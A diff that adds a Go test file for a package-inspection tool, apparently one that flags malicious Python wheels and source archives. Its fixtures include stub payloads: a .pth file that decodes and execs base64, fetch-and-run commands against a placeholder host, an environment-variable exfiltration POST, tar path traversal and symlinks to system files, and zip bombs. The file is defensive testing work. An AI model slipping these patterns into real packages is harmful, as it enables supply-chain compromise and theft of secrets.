@@ -1,0 +1,258 @@
+package inspect
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"errors"
+	"strings"
+	"testing"
+
+	"airlock/internal/fakepypi"
+)
+
+func wheel(t testing.TB, spec fakepypi.WheelSpec) (string, []byte) {
+	fn, data, _ := fakepypi.BuildWheel(spec)
+	return fn, data
+}
+
+func inspectBytes(t testing.TB, name string, data []byte) (*Report, error) {
+	return File(bytes.NewReader(data), int64(len(data)), name, DefaultLimits())
+}
+
+func kinds(r *Report) map[string]Finding {
+	out := map[string]Finding{}
+	for _, f := range r.Findings {
+		out[f.Kind] = f
+	}
+	return out
+}
+
+// The LiteLLM shape: a <name>_init.pth that decodes and executes a payload.
+const pthPayload = "import os, base64; exec(base64.b64decode('cHJpbnQoInB3bmVkIik='))\n"
+
+func TestPthPayloadIsCritical(t *testing.T) {
+	fn, data := wheel(t, fakepypi.WheelSpec{Name: "litellm", Version: "1.82.8", Extra: map[string]string{"litellm_init.pth": pthPayload}})
+	rep, err := inspectBytes(t, fn, data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f, ok := kinds(rep)["pth-exec"]
+	if !ok || f.Severity != Critical || f.Path != "litellm_init.pth" || !strings.Contains(f.Evidence, "b64decode") {
+		t.Fatalf("findings: %+v", rep.Findings)
+	}
+	if _, ok := kinds(rep)["record-mismatch"]; ok {
+		t.Errorf("a consistent RECORD was reported: %+v", rep.Findings)
+	}
+}
+
+func TestCodeShapes(t *testing.T) {
+	for _, tt := range []struct {
+		name, path, src, kind, severity string
+	}{
+		{"obfuscated exec", "pkg/mod.py", "import zlib,base64\nexec(zlib.decompress(base64.b64decode(b'eJw=')))\n", "obfuscated-exec", High},
+		{"ultralytics: wget from __init__", "pkg/__init__.py", "import subprocess\nsubprocess.Popen(['wget', 'http://x/miner', '-O', '/tmp/m'])\n", "download-exec", High},
+		{"lightning: downloader spawned from __init__", "pkg/__init__.py", "import subprocess, urllib.request\nurllib.request.urlretrieve('http://x/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n", "download-exec", High},
+		{"ctx: environ posted", "pkg/__init__.py", "import os, base64, requests\nrequests.post('http://x', data=base64.b64encode(str(os.environ).encode()))\n", "env-exfiltration", Critical},
+		{"torchtriton: bundled binary on import", "pkg/__init__.py", "import os, subprocess\nsubprocess.run([os.path.join(os.path.dirname(__file__), 'runtime')])\n", "spawn", High},
+		{"setup.py downloads and runs", "setup.py", "import os\nos.system('curl -s http://x/p | sh')\nfrom setuptools import setup\nsetup()\n", "download-exec", High},
+		{"sitecustomize at top level", "sitecustomize.py", "print('hi')\n", "startup-hook", Critical},
+		{"long encoded literal", "pkg/blob.py", "DATA = '" + strings.Repeat("QUJD", 400) + "'\n", "encoded-blob", Medium},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{tt.path: tt.src}})
+			rep, err := inspectBytes(t, fn, data)
+			if err != nil {
+				t.Fatal(err)
+			}
+			f, ok := kinds(rep)[tt.kind]
+			if !ok || f.Severity != tt.severity || f.Path != tt.path {
+				t.Errorf("want %s/%s at %s, got %+v", tt.kind, tt.severity, tt.path, rep.Findings)
+			}
+		})
+	}
+	// Process starts inside functions do not run at import time.
+	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{
+		"pkg/__init__.py": "import subprocess\n\ndef build():\n    subprocess.run(['make'])\n\nclass X:\n    def go(self):\n        os.system('ls')\n",
+	}})
+	rep, _ := inspectBytes(t, fn, data)
+	if len(rep.Findings) != 0 {
+		t.Errorf("code in functions reported: %+v", rep.Findings)
+	}
+}
+
+func TestNativeExecutableInPureWheel(t *testing.T) {
+	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{"demo/runtime": "\x7fELF\x02\x01\x01\x00rest"}})
+	rep, _ := inspectBytes(t, fn, data)
+	if f := kinds(rep)["native-executable"]; f.Severity != High || f.Path != "demo/runtime" {
+		t.Errorf("findings: %+v", rep.Findings)
+	}
+}
+
+func TestRecordMismatch(t *testing.T) {
+	fn, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0"})
+	// Rewrite one member's content after RECORD was made.
+	zr, _ := zip.NewReader(bytes.NewReader(data), int64(len(data)))
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for _, f := range zr.File {
+		rc, _ := f.Open()
+		var body bytes.Buffer
+		body.ReadFrom(rc)
+		if f.Name == "demo/__init__.py" {
+			body.Reset()
+			body.WriteString("import os; os.system('id')\n")
+		}
+		w, _ := zw.Create(f.Name)
+		w.Write(body.Bytes())
+	}
+	w, _ := zw.Create("demo/extra.py")
+	w.Write([]byte("x = 1\n"))
+	zw.Close()
+	rep, err := inspectBytes(t, fn, buf.Bytes())
+	if err != nil {
+		t.Fatal(err)
+	}
+	var msgs []string
+	for _, f := range rep.Findings {
+		if f.Kind == "record-mismatch" {
+			msgs = append(msgs, f.Path+": "+f.Message)
+		}
+	}
+	got := strings.Join(msgs, "\n")
+	if !strings.Contains(got, "demo/__init__.py: content does not match") || !strings.Contains(got, "demo/extra.py: file in the wheel is not listed") {
+		t.Errorf("record findings:\n%s", got)
+	}
+}
+
+func TestEntryPointsAndDiff(t *testing.T) {
+	_, old := wheel(t, fakepypi.WheelSpec{Name: "setuptools", Version: "80.0", Extra: map[string]string{"distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n"}})
+	fn, cur := wheel(t, fakepypi.WheelSpec{Name: "setuptools", Version: "80.1", EntryPoints: "[console_scripts]\nsetup-evil = setuptools.x:main\n",
+		Extra: map[string]string{"distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n", "setuptools/new.py": "x=1\n"}})
+	prev, _ := inspectBytes(t, "setuptools-80.0-py3-none-any.whl", old)
+	rep, _ := inspectBytes(t, fn, cur)
+	d := Compare("setuptools", "80.1", rep, "80.0", prev)
+	if len(d.New) != 0 || len(d.Known) != 1 || d.Known[0].Kind != "pth-exec" {
+		t.Errorf("a .pth the project always shipped is not known: new %+v known %+v", d.New, d.Known)
+	}
+	if strings.Join(d.Added, ",") != "setuptools-80.1.dist-info/entry_points.txt,setuptools/new.py" || len(d.Removed) != 0 {
+		t.Errorf("files added %v removed %v", d.Added, d.Removed)
+	}
+	if strings.Join(d.EntryPointsNew, ",") != "setup-evil = setuptools.x:main" {
+		t.Errorf("entry points added: %v", d.EntryPointsNew)
+	}
+	if d := Compare("setuptools", "80.1", rep, "", nil); len(d.New) != 1 {
+		t.Errorf("without a previous release every finding is new: %+v", d)
+	}
+}
+
+func tarGz(t testing.TB, entries []tar.Header, bodies map[string]string) []byte {
+	var buf bytes.Buffer
+	gz := gzip.NewWriter(&buf)
+	tw := tar.NewWriter(gz)
+	for _, h := range entries {
+		h := h
+		body := bodies[h.Name]
+		if h.Typeflag == tar.TypeReg {
+			h.Size = int64(len(body))
+		}
+		if h.Mode == 0 {
+			h.Mode = 0o644
+		}
+		if err := tw.WriteHeader(&h); err != nil {
+			t.Fatal(err)
+		}
+		tw.Write([]byte(body))
+	}
+	tw.Close()
+	gz.Close()
+	return buf.Bytes()
+}
+
+func TestTarTraversalAndLinks(t *testing.T) {
+	data := tarGz(t, []tar.Header{
+		{Name: "demo-1.0/PKG-INFO", Typeflag: tar.TypeReg},
+		{Name: "demo-1.0/../../etc/cron.d/x", Typeflag: tar.TypeReg},
+		{Name: "/abs/path", Typeflag: tar.TypeReg},
+		{Name: "demo-1.0/link", Typeflag: tar.TypeSymlink, Linkname: "/etc/passwd"},
+		{Name: "demo-1.0/hard", Typeflag: tar.TypeLink, Linkname: "demo-1.0/PKG-INFO"},
+		{Name: "demo-1.0/setup.py", Typeflag: tar.TypeReg},
+	}, map[string]string{"demo-1.0/PKG-INFO": "Name: demo\n", "demo-1.0/setup.py": "import os,urllib.request\nurllib.request.urlretrieve('http://x/b','/tmp/b')\nos.system('/tmp/b')\n"})
+	rep, err := inspectBytes(t, "demo-1.0.tar.gz", data)
+	if err != nil {
+		t.Fatal(err)
+	}
+	count := map[string]int{}
+	for _, f := range rep.Findings {
+		count[f.Kind]++
+	}
+	if count["path-traversal"] != 2 || count["link"] != 2 || count["download-exec"] != 1 {
+		t.Errorf("findings: %+v", rep.Findings)
+	}
+	for _, f := range rep.Files {
+		if strings.Contains(f, "..") || strings.HasPrefix(f, "/") {
+			t.Errorf("a traversal member was read as a file: %s", f)
+		}
+	}
+}
+
+func TestBombsAndCorruptArchives(t *testing.T) {
+	// A zip bomb: 300 MiB of zeros in one member.
+	var bomb bytes.Buffer
+	zw := zip.NewWriter(&bomb)
+	w, _ := zw.Create("demo/zeros.bin")
+	zero := make([]byte, 1<<20)
+	for i := 0; i < 300; i++ {
+		w.Write(zero)
+	}
+	zw.Close()
+	if _, err := inspectBytes(t, "demo-1.0-py3-none-any.whl", bomb.Bytes()); !errors.Is(err, ErrLimit) || !strings.Contains(err.Error(), "compression ratio") {
+		t.Errorf("zip bomb: %v", err)
+	}
+	// The same as a tar.gz.
+	tgz := tarGz(t, []tar.Header{{Name: "demo-1.0/zeros", Typeflag: tar.TypeReg}}, map[string]string{"demo-1.0/zeros": strings.Repeat("\x00", 64<<20)})
+	if _, err := inspectBytes(t, "demo-1.0.tar.gz", tgz); !errors.Is(err, ErrLimit) {
+		t.Errorf("tar.gz bomb: %v", err)
+	}
+	// Too many members and too deep paths.
+	lim := DefaultLimits()
+	lim.MaxMembers = 3
+	_, data := wheel(t, fakepypi.WheelSpec{Name: "demo", Version: "1.0"})
+	if _, err := File(bytes.NewReader(data), int64(len(data)), "demo-1.0-py3-none-any.whl", lim); !errors.Is(err, ErrLimit) || !strings.Contains(err.Error(), "members") {
+		t.Errorf("member limit: %v", err)
+	}
+	deep := tarGz(t, []tar.Header{{Name: strings.Repeat("d/", 60) + "f", Typeflag: tar.TypeReg}}, nil)
+	if _, err := inspectBytes(t, "demo-1.0.tar.gz", deep); !errors.Is(err, ErrLimit) || !strings.Contains(err.Error(), "deeper") {
+		t.Errorf("depth limit: %v", err)
+	}
+	for name, data := range map[string][]byte{
+		"demo-1.0-py3-none-any.whl": []byte("PK\x03\x04 not really a zip"),
+		"demo-1.0.tar.gz":           []byte("\x1f\x8b\x08 truncated gzip"),
+		"demo-1.0.zip":              data[:len(data)/2],
+	} {
+		if _, err := inspectBytes(t, name, data); !errors.Is(err, ErrLimit) {
+			t.Errorf("corrupt %s: %v", name, err)
+		}
+	}
+}
+
+func FuzzInspect(f *testing.F) {
+	_, w := wheel(f, fakepypi.WheelSpec{Name: "demo", Version: "1.0", Extra: map[string]string{"demo.pth": "import x\n"}})
+	f.Add(w, true)
+	_, sd := fakepypi.BuildSdist("demo", "1.0")
+	f.Add(sd, false)
+	f.Fuzz(func(t *testing.T, data []byte, isWheel bool) {
+		name := "demo-1.0.tar.gz"
+		if isWheel {
+			name = "demo-1.0-py3-none-any.whl"
+		}
+		rep, err := inspectBytes(t, name, data)
+		if err != nil && !errors.Is(err, ErrLimit) {
+			t.Fatalf("unclassified error: %v", err)
+		}
+		if err == nil && rep == nil {
+			t.Fatal("no report and no error")
+		}
+	})
+}
